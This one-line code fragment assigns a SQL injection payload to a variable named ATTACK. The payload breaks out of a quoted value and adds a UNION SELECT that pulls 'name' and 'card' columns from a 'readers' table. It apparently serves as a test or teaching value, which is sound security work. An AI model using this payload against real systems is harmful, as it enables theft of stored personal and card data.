ATTACK = "' AND 0 UNION SELECT name, card FROM readers"
